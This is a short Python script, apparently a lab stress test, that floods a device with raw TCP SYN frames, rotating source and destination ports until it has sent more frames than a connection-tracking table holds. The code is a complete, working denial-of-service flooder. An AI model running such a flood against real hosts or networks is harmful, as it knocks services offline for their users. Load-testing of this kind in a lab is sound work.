# SPDX-License-Identifier: Apache-2.0
"""Run at a place of a lab: syn-flood.py DEVICE DESTINATION_MAC SECONDS HEX...

Sends TCP SYN frames like HEX (Ethernet, IPv4 or IPv6 without options) as fast as one core can, every one with another
source port, after a round of them with the next destination port. Goes on for SECONDS, and on a slow machine until
FRAMES_MIN are sent, at most a minute more. Prints how many it sent.
"""

import socket
import struct
import sys
import time

ETHERNET, IPV4, IPV6 = 14, 20, 40
FRAMES_MIN = 70_000  # more than the table of opening flows holds


def with_ports(frame, source_port, ports_on):
    """The frame with other ports and its TCP checksum brought up to date (RFC 1624, equation 3)."""
    tcp = ETHERNET + (IPV4 if frame[12:14] == b"\x08\x00" else IPV6)
    old_source, old_destination = struct.unpack_from("!HH", frame, tcp)
    destination_port = old_destination + ports_on
    (old_sum,) = struct.unpack_from("!H", frame, tcp + 16)
    total = (~old_sum & 0xFFFF) + (~old_source & 0xFFFF) + source_port + (~old_destination & 0xFFFF) + destination_port
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    changed = bytearray(frame)
    struct.pack_into("!HH", changed, tcp, source_port, destination_port)
    struct.pack_into("!H", changed, tcp + 16, ~total & 0xFFFF)
    return bytes(changed)


device, mac, seconds = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), float(sys.argv[3])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((device, 0))
own = wire.getsockname()[4]
templates = [mac + own + bytes.fromhex(text)[12:] for text in sys.argv[4:]]

sent = 0
rounds = 0
print("flooding", flush=True)
end = time.monotonic() + seconds


def is_over():
    now = time.monotonic()
    return now > end and (sent >= FRAMES_MIN or now > end + 60)


while not is_over():
    for template in templates:
        for source_port in range(1024, 65536):
            try:
                wire.send(with_ports(template, source_port, rounds))
                sent += 1
            except OSError:
                pass  # the device's queue is full: that is the flood
            if sent % 256 == 0 and is_over():
                break
    rounds += 1
print(sent, flush=True)
